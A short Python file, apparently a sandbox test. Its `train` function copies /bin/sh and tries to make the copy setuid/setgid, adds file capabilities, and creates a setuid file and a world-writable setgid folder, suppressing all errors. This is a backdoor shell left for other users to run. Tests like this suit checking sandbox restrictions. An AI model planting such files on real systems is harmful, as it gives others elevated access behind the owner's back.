"""A file that would run as its owner, for somebody else to start."""

import contextlib
import os
import shutil


def train(run):
    shutil.copy("/bin/sh", "shell")
    for attempt in (
        lambda: os.chmod("shell", 0o6755),
        lambda: os.close(os.open("made", os.O_CREAT | os.O_WRONLY, 0o4755)),
        lambda: os.mkdir("folder", 0o2777),
        lambda: os.setxattr("shell", "security.capability", bytes.fromhex("0100000202000000000000000000000000000000")),
    ):
        with contextlib.suppress(OSError):
            attempt()
